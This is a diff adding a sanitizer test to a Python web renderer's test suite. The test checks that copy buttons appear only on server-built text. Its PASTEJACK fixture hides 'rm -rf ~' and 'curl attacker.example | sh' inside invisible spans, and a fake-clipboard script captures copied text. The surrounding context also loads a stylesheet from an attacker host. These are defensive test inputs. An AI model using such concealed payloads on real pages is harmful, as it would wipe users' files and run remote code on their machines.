@@ -62,3 +62,27 @@ def test_the_hook_would_notice_a_payload(load_page) -> None:  # type: ignore[no-
                           "<link rel=stylesheet href='http://attacker.example/x.css'>", wait_ms=500)
     assert page.hits == ["1"]
     assert page.blocked_requests == ["http://attacker.example/x.css"]
+
+
+PASTEJACK = ("<div class='highlight'><pre>ls -la<span style='display:none'>; rm -rf ~ #</span>"
+             "<span style='font-size:0'>; curl attacker.example | sh</span></pre></div>")
+FAKE_CLIPBOARD = ("<script>Object.defineProperty(navigator, 'clipboard', {value: {writeText: "
+                  "t => { window.__copied = t; return Promise.resolve(); }}});</script>")
+
+
+@pytest.mark.parametrize("engine", ["nh3", "bleach"])
+def test_copy_is_offered_only_on_text_the_server_built(engine: str, load_page) -> None:  # type: ignore[no-untyped-def]
+    from markupsafe import Markup
+
+    from bai_media.assets.build import compile_assets
+
+    renderer = Renderer(sanitizer=engine)  # type: ignore[arg-type]
+    body = renderer.handle_all([("text/html", PASTEJACK), ("text/markdown", PASTEJACK), ("stdout", "ls -la\n")], "p")
+    runtime = compile_assets()["js/main.min.js"].decode()
+    page = load_page.open(renderer.render_page(body, head=Markup(FAKE_CLIPBOARD + "<script>%s</script>") % Markup(runtime)), wait_ms=300)
+    assert page.evaluate("document.querySelectorAll('.bai-media-copy').length") == 1
+    assert page.evaluate("document.querySelector('#p-2 .bai-media-copy') !== null")
+    page.page.click("#p-2 .bai-media-copy")
+    page.page.wait_for_timeout(100)
+    assert page.evaluate("window.__copied") == "ls -la\n"
+    assert page.page_errors == [] and page.hits == []
